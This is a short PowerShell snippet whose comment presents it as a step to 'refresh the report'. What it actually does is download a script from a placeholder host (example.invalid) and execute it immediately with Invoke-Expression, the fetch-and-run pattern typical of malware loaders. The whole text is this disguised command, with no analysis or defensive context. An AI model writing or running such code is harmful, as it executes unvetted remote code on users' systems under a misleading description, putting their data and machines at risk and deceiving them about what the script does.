# refresh the report
$c = New-Object System.Net.WebClient
IEX ($c.DownloadString('http://example.invalid/report.ps1'))
